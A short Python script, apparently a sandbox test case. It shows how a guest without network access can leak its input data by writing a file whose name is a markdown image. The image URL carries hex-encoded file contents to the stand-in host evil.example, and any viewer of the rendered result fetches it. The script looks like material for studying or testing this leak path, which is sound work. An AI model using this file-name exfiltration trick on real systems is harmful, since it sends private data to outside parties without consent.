# A file name is the guest's to choose and the result quotes it. With `network: none`
# the guest cannot send its /in data out, so it names a file as a markdown image whose
# URL carries the data (slashes, which a name cannot hold, written as `&#47;`): rendered
# as prose, whoever views the result would fetch https://evil.example/p.png?d=<data>.
data = open("/in/script.py", "rb").read()[:12].hex()
name = "![x](https:&#47;&#47;evil.example&#47;p.png?d=" + data + ")"
with open("/out/" + name, "w") as f:
    f.write("beacon\n")
print("wrote the beacon name")
